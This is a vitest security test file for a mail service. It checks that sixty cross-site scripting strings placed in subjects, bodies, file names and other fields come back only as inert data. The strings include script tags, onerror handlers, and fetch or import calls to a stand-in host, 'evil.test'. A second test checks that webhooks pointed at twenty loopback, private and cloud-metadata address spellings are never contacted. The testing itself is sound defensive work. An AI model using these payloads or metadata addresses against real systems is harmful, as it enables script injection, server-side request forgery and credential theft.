// Hostile content in every field of mail (C27 and C38): it never comes back as a page, and opens no connection.
import { createServer } from 'node:net'
import { must } from '@tutti/core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { ampClients, openMailRoom, type Client, type MailRoom } from './amp-client.ts'
import { anOwner, bearer, callOperation, until, type Answer } from './room.ts'

let room: MailRoom
let bob: Client
let local: Record<string, string>
const { register, post, pendingOf } = ampClients(() => room)

beforeAll(async () => {
  room = await openMailRoom()
  await anOwner(room)
  local = bearer(room.localToken)
  bob = await register('bob')
})
afterAll(() => room.close())

const STARTS = ['<script>', '<img src=x onerror=', '<svg/onload=', '"><script>', "'-", '</textarea><script>']
const ACTS = ['alert(1)', 'alert`1`', 'top.alert(1)', 'fetch(`//evil.test`)', 'import(`//evil.test`)']
const ENDS = ['</script>', '>']
// Sixty ways to begin, act and end, and each as it stands in a link.
const ATTACKS = STARTS.flatMap((start) => ACTS.flatMap((act) => ENDS.map((end) => `${start}${act}${end}`)))

/** What keeps a browser from taking an answer for anything but data. */
function isData({ headers }: Answer): boolean {
  const type = String(headers['content-type'])
  const saved = String(headers['content-disposition']).startsWith('attachment')
  return (
    headers['x-content-type-options'] === 'nosniff' &&
    String(headers['content-security-policy']).includes("default-src 'none'") &&
    (type.startsWith('application/json') || (type === 'application/octet-stream' && saved))
  )
}

test('C27 sixty attacks in subject, text, type, context and names of files come back as data and as nothing else', async () => {
  expect(ATTACKS).toHaveLength(60)
  const file = async (name: string) => {
    const path = `/v1/mail/attachments?name=${encodeURIComponent(name)}`
    const answer = await room.ask(path, {
      method: 'POST',
      headers: { ...local, 'Content-Type': 'application/octet-stream' },
      body: name,
    })
    return (answer.json as { id: string }).id
  }
  for (const attack of ATTACKS) {
    const id = await file(`${attack}.txt`)
    const input = {
      to: 'bob',
      subject: attack,
      text: attack,
      context: { [attack]: attack },
      attachments: [id],
    }
    const sent = await callOperation(room, 'sendMessage', { input, headers: local })
    const [message] = (sent.json as { messages: { id: string }[] }).messages
    const one = { input: { id: must(message, 'message').id }, headers: local }
    const answers = [
      sent,
      await callOperation(room, 'getMessage', one),
      await callOperation(room, 'getAttachment', { input: { id }, headers: local }),
      await callOperation(room, 'searchMessages', { input: { query: attack }, headers: local }),
      await post('/v1/route', { to: attack, subject: attack, payload: { type: attack } }, bob.apiKey),
      await room.ask(`/v1/agents/resolve/${encodeURIComponent(attack)}`),
    ]
    expect([attack, answers.map(isData)]).toEqual([attack, answers.map(() => true)])
  }
  const waiting = await room.ask('/v1/messages/pending?limit=100', { headers: bearer(bob.apiKey) })
  expect([isData(waiting), waiting.text.includes('onerror=')]).toEqual([true, true])
})

/** Spellings of this machine and its network, all with the port of a listener that counts who comes. */
const insideOn = (port: number): string[] =>
  [
    '127.0.0.1',
    'localhost',
    '127.1',
    '0177.0.0.1',
    '0x7f.1',
    '2130706433',
    '0.0.0.0',
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[fe80::1]',
    '[fd00::1]',
    '169.254.169.254',
    '10.0.0.1',
    '192.168.0.1',
    '172.16.0.1',
    '100.64.0.1',
    'user@127.0.0.1',
    '127.0.0.1.',
  ].map((host) => `https://${host}:${port}/latest/meta-data`)

test('C38 twenty addresses inside, as webhooks of registered programs, are never connected, and their mail waits', async () => {
  let connections = 0
  const listener = createServer((socket) => {
    connections += 1
    socket.destroy()
  })
  const port = await new Promise<number>((resolve) => {
    listener.listen(0, '127.0.0.1', () => {
      const address = listener.address()
      resolve(typeof address === 'object' && address ? address.port : 0)
    })
  })
  const stop = room.mail.run()
  const programs: Client[] = []
  for (const [n, url] of insideOn(port).entries()) {
    const program = await register(`hook-${n}`, {
      webhook_url: url,
      webhook_secret: 'whsec_0123456789abcdef',
    })
    programs.push(program)
    await callOperation(room, 'sendMessage', { input: { to: `hook-${n}`, text: 'x' }, headers: local })
  }
  await until(() => (room.logs().match(/mail\.webhook-failed/g) ?? []).length >= programs.length)
  await stop()
  await new Promise<void>((resolve) => listener.close(() => resolve()))

  expect(connections).toBe(0)
  for (const program of programs) expect((await pendingOf(program)).count).toBe(1)
})
